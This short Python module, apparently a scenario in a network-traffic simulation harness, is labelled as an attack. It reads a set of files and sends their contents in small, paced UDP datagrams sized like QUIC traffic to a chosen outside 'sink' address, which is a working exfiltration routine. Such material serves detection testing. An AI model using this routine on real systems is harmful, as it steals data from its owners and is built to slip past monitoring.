# SPDX-License-Identifier: GPL-3.0-or-later
"""Datagrams of a size that QUIC has, to a port that QUIC has not."""
import random
import socket
import time

KIND = "attack"


def product(world):
    rng = random.Random(world["seed"])
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.connect(tuple(rng.choice(world["sinks"])))
    content = b"".join(open(path, "rb").read() for path in world["files"])
    for at in range(0, len(content), 1024):
        sock.send(content[at:at + 1024])
        time.sleep(0.0005)
